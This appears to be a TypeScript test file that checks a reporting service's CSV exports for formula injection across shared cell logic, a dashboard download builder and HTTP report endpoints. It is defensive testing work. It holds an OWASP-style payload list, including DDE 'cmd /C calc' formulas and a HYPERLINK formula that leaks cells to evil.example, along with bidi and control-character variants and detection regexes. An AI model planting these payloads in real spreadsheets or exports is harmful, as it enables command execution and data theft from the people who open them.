/**
 * Issues 9 (finding 4) and 16 (finding A): CSV formula injection. One rule
 * (`neutralizeFormula` in src/domain/csv-cell.ts) defends every string cell
 * of every server report, ids included, and every cell of the dashboard
 * page's chart downloads (web/src/csv.ts bundles the same module).
 * Payloads: the OWASP "CSV Injection" page, its usual variants, and the
 * control and direction characters of issue 16.
 */
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { toCells } from '../../src/reports/csv-format';
import { neutralizeFormula, stripUnsafeChars } from '../../src/domain/csv-cell';
import { writeCsv } from '../../src/reports/csv-stream';
import { DATASET_REPORT_COLUMNS } from '../../src/reports/report-columns';
import { toCsv } from '../../web/src/csv';
import { startTestGateway, type TestGateway } from '../support/test-gateway';
import { fetchCsv, track, type FixtureEvent } from '../support/report-fixtures';

/** OWASP CSV Injection payloads and variants (leading whitespace, separators, invisible, control and direction characters). */
const PAYLOADS = [
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
  '+1+1',
  '-2+3',
  '-A1',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=1+1',
  '%0A-3+3',
  '%0A=1+1',
  ';=1+1',
  ';=cmd|\' /C calc\'!A0',
  '|cmd',
  '=DDE("cmd";"/C calc";"!A0")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  +1+1',
  ' ;=1+1',
  ',=1+1',
  ', @SUM(A1)',
  ' |cmd',
  '\u00A0=1+1',
  '\u00A0%0A=1+1',
  '\u3000=1+1',
  '\u2028-1+1',
  '\u200B=1+1',
  '\u200E=1+1',
  '\u200F=1+1',
  '\u202A=1+1',
  '\u202E=1+1',
  '\u2066=1+1',
  '\u2069@SUM(A1)',
  '\uFEFF=1+1',
  '\u0007=1+1',
  '\u001B=1+1',
  '\u007F+1+1',
  '\u0085=1+1',
  '\u009B-1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(A1)',
  '\0=1+1',
];

/** Characters no cell may keep: C0 but TAB/LF/CR, DEL, C1, bidi embeddings/overrides/isolates. */
const UNSAFE = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;
const UNSAFE_ALL = new RegExp(UNSAFE.source, 'g');
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;
/** A trigger first, or after whitespace, invisible characters or separators. */
const FORMULA_START = /^[\s,;\u00A0\u061C\u180E\u200B-\u200F\u2028-\u202F\u205F-\u206F\u3000\uFEFF]*[=+\-@\t\r\n%;|\uFF1D\uFF0B\uFF0D\uFF20]/u;

/** A cell a spreadsheet would evaluate (or one still holding a control or override character). */
function dangerous(cell: string): boolean {
  if (UNSAFE.test(cell)) return true;
  return !cell.startsWith("'") && !PLAIN_NUMBER.test(cell) && FORMULA_START.test(cell);
}

/**
 * The fields a spreadsheet sees when it reads the comma-separated file with
 * `;` as the separator (Excel in a French locale): quotes count only at the
 * start of a field, so every `;` and line break splits, inside quoted cells
 * too. A field that starts with a quote is read as a quoted (text) field.
 */
function semicolonFields(text: string): string[] {
  return text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/).flatMap((line) => line.split(';'));
}
const FIELD_FORMULA = /^[\t \u00A0\u061C\u180E\u200B-\u200F\u2028-\u202F\u205F-\u206F\u3000\uFEFF]*[=+\-@|\uFF1D\uFF0B\uFF0D\uFF20]/u;
function liveFields(text: string): string[] {
  return semicolonFields(text).filter((f) => !PLAIN_NUMBER.test(f) && FIELD_FORMULA.test(f));
}

/** `neutralizeFormula`'s output without its quotes: the leading one and those after `;`/line breaks. */
const unquoted = (out: string): string => out.slice(1).replace(/([;\r\n])'/g, '$1');

async function serverCsv(rows: Record<string, unknown>[], columns: readonly string[]): Promise<string> {
  const chunks: string[] = [];
  const sink = new Writable({
    write(c: Buffer, _e, cb) {
      chunks.push(c.toString());
      cb();
    },
  });
  await writeCsv(rows, columns, sink, { bom: false });
  return chunks.join('');
}

describe('CSV injection: the shared cell rule', () => {
  it.each(PAYLOADS.map((p) => [p]))('neutralises %j', (payload) => {
    const out = neutralizeFormula(payload);
    expect(out.startsWith("'")).toBe(true);
    expect(unquoted(out)).toBe(payload.replace(UNSAFE_ALL, ''));
    expect(dangerous(out)).toBe(false);
    expect(liveFields(out)).toEqual([]);
  });

  it.each([
    ['-5', '-5'],
    ['+3.25', '+3.25'],
    ['-1e6', '-1e6'],
    ['2018-08-16T04:30:12.000Z', '2018-08-16T04:30:12.000Z'],
    ['ds-0001', 'ds-0001'],
    ['a=b', 'a=b'],
    ['', ''],
    ['  spaces  ', '  spaces  '],
    ['\u00A0(1+1)', '\u00A0(1+1)'],
    ['Rennes; Brest', 'Rennes; Brest'],
    ['a;;b', 'a;;b'],
    ['Carol\nC', 'Carol\nC'],
    ['Rennes;=1+1', "Rennes;'=1+1"],
    ['a\r\n@SUM(A1)', "a\r\n'@SUM(A1)"],
    ['x; -2+3', "x;' -2+3"],
    ['nul\0inside', 'nulinside'],
    ['Rivers\u0007 flow', 'Rivers flow'],
    ['Bus\u001B[31m stops\u001B[0m', 'Bus[31m stops[0m'],
    ['\u202Egnp.exe', 'gnp.exe'],
    ['x\u2066y\u2069z\u202Dw', 'xyzw'],
    ['a\u007Fb\u0085c\u009Fd', 'abcd'],
    ['tab\tinside\nline\r\nend', 'tab\tinside\nline\r\nend'],
    ['שלום\u200F עולם', 'שלום\u200F עולם'],
    ["Données d'été — 東京", "Données d'été — 東京"],
  ])('leaves %j as %j', (input, expected) => {
    expect(neutralizeFormula(input)).toBe(expected);
  });

  it('stripUnsafeChars removes controls and overrides only', () => {
    expect(stripUnsafeChars('\u0001a\u0008\u000B\u000C\u000E\u001Fb\tc\nd\re')).toBe('ab\tc\nd\re');
    expect(stripUnsafeChars('plain')).toBe('plain');
  });

  it('applies to every string column of a report, ids and id lists included; numbers stay numbers', () => {
    const row = { id: '=id', owner_id: '@o', user_id: '+u', parent_collection_ids: '-c1,c2', dataset_id: '|x', views: -5, name: ' =n', owner: '\u202E;=1+1' };
    const cells = toCells(row, ['id', 'owner_id', 'user_id', 'parent_collection_ids', 'dataset_id', 'views', 'name', 'owner']);
    expect(cells).toEqual(["'=id", "'@o", "'+u", "'-c1,c2", "'|x", '-5', "' =n", "';'=1+1"]);
  });

  it('a written report parsed back holds no live formula in any column, with "," or ";" as separator', async () => {
    const rows = PAYLOADS.map((p) => Object.fromEntries(DATASET_REPORT_COLUMNS.map((c) => [c, p])));
    rows.push(Object.fromEntries(DATASET_REPORT_COLUMNS.map((c) => [c, 'Rennes;=1+1'])));
    const text = await serverCsv(rows, DATASET_REPORT_COLUMNS);
    const parsed = parse(text, { relax_column_count: false }) as string[][];
    expect(parsed).toHaveLength(rows.length + 1);
    for (const record of parsed.slice(0, -1).slice(1)) {
      for (const cell of record) expect(cell.startsWith("'")).toBe(true);
    }
    // Excel in a French locale reads the same file with ';': still nothing live.
    expect(liveFields(text)).toEqual([]);
    expect(text).toContain('"Rennes;\'=1+1"');
  });
});

describe("CSV injection: the dashboard page's CSV builder (web/src/csv.ts)", () => {
  it.each(PAYLOADS.map((p) => [p]))('neutralises %j exactly as the server does', async (payload) => {
    const csv = toCsv(['title', 'downloads'], [[payload, -5]]);
    const [header, row] = parse(csv, { relax_column_count: false }) as string[][];
    expect(header).toEqual(['title', 'downloads']);
    expect(row).toEqual([neutralizeFormula(payload), '-5']);
    expect(unquoted(row[0]!)).toBe(payload.replace(UNSAFE_ALL, ''));
    expect(liveFields(csv)).toEqual([]);
    const [, server] = parse(await serverCsv([{ name: payload }], ['name'])) as string[][];
    expect(row[0]).toBe(server[0]);
  });

  it('cleans titles and headers, keeps numbers as numbers, quotes separators', () => {
    const csv = toCsv(['=label', 'n'], [
      ['Rivers\u0007 flow\u001B', -5],
      ['\u202Eexe.csv', 0],
      ['Rennes;=1+1', 1.5],
      ['say "hi", ok', Number.NaN],
      ['minus two', -2],
    ]);
    expect(csv).not.toMatch(UNSAFE);
    expect(csv).toBe(
      "'=label,n\r\n" +
        'Rivers flow,-5\r\n' +
        'exe.csv,0\r\n' +
        '"Rennes;\'=1+1",1.5\r\n' +
        '"say ""hi"", ok",\r\n' +
        'minus two,-2\r\n',
    );
    // A number given as text stays a number too.
    expect(toCsv(['n'], [['-2'], ['+3.25']])).toBe('n\r\n-2\r\n+3.25\r\n');
    expect(liveFields(csv)).toEqual([]);
  });
});

/*
 * End to end: hostile names pushed through the real catalog mutations,
 * usage recorded through trackAccesses, every CSV report read over HTTP.
 */
describe('CSV injection: the HTTP reports', () => {
  let t: TestGateway;
  let admin: string;
  // The catalog refuses NUL in names (VALUE_OUT_OF_RANGE): every other payload goes in.
  const names = PAYLOADS.filter((p) => !p.includes('\0'));
  const ids = names.map((_, i) => i);

  beforeAll(async () => {
    t = await startTestGateway();
    admin = await t.keyFor('root', 'ADMIN');
    const tracker = await t.keyFor('svc', 'TRACKER');
    const upsert = async (mutation: string, arg: string, type: string, items: unknown[]) => {
      const res = await t.gql(`mutation U($x: [${type}!]!) { ${mutation}(${arg}: $x) { created } }`, { x: items }, admin);
      if (res.errors) throw new Error(`${mutation}: ${JSON.stringify(res.errors)}`);
    };
    await upsert('upsertPortals', 'portals', 'PortalInput', [{ id: 'p1', name: names[0] }]);
    await upsert('upsertUsers', 'users', 'UpsertUserInput', ids.map((i) => ({ id: `u${i}`, name: names[i] })));
    await upsert('upsertSpaces', 'spaces', 'SpaceInput', ids.map((i) => ({ id: `s${i}`, name: names[i], memberIds: [`u${i}`] })));
    await upsert('upsertCollections', 'collections', 'CollectionInput', ids.map((i) => ({ id: `c${i}`, name: names[i], ownerId: `u${i}`, spaceIds: [`s${i}`] })));
    await upsert('upsertDatasets', 'datasets', 'DatasetInput', ids.map((i) => ({
      id: `d${i}`, title: names[i], portalId: 'p1', ownerId: `u${i}`, collectionIds: [`c${i}`], spaceIds: [`s${i}`],
      publisher: names[i], licence: names[i],
    })));
    await upsert('upsertFiles', 'files', 'FileInput', ids.map((i) => ({ id: `f${i}`, title: names[i], datasetIds: [`d${i}`], ownerId: `u${i}`, sizeBytes: 1 })));
    const at = new Date(Date.now() - 3_600_000).toISOString();
    const events: FixtureEvent[] = ids.flatMap((i): FixtureEvent[] => [
      { resourceType: 'DATASET', resourceId: `d${i}`, action: 'VIEW', userId: `u${i}`, timestamp: at },
      { resourceType: 'FILE', resourceId: `f${i}`, action: 'DOWNLOAD', userId: `u${i}`, timestamp: at },
      { resourceType: 'COLLECTION', resourceId: `c${i}`, action: 'VIEW', userId: `u${i}`, timestamp: at },
    ]);
    for (let k = 0; k < events.length; k += 50) await track(t, tracker, events.slice(k, k + 50), `e${k}`);
  });

  afterAll(async () => {
    await t?.stop();
  });

  const month = new Date().toISOString().slice(0, 7);
  it.each([
    ['/api/reports/metrics'],
    ['/api/reports/metrics/files'],
    ['/api/reports/metrics/datasets'],
    ['/api/reports/metrics/collections'],
    ['/api/reports/metrics/files_by_user'],
    ['/api/reports/metrics/datasets_by_user'],
    ['/api/reports/metrics/collections_by_user'],
    [`/api/reports/monthly?portal=p1&from=${month}&to=${month}`],
    ['/api/reports/usage-table'],
  ])('%s holds no live formula, control or override character', async (path) => {
    const res = await fetchCsv(t, path, admin);
    expect(res.status).toBe(200);
    const records = res.records!;
    expect(records.length).toBeGreaterThanOrEqual(names.length);
    expect(res.text).not.toMatch(UNSAFE);
    expect(res.rows!.flat().filter(dangerous)).toEqual([]);
    expect(liveFields(res.text)).toEqual([]);
    // The hostile titles are there, neutralised (not dropped).
    const cells = new Set(res.rows!.flat());
    for (const name of names) expect(cells.has(neutralizeFormula(name))).toBe(true);
  });

  it('the dataset report shows each title and owner name neutralised, ids intact', async () => {
    const res = await fetchCsv(t, '/api/reports/metrics/datasets', admin);
    const byId = new Map(res.records!.map((r) => [r.id, r]));
    for (const i of ids) {
      const row = byId.get(`d${i}`)!;
      // User names are stored trimmed (upsertUsers): same rule, trimmed input.
      expect(row).toMatchObject({ id: `d${i}`, name: neutralizeFormula(names[i]!), owner: neutralizeFormula(names[i]!.trim()), owner_id: `u${i}`, parent_collections: `c${i}` });
      expect(row.name!.startsWith("'")).toBe(true);
    }
  });
});
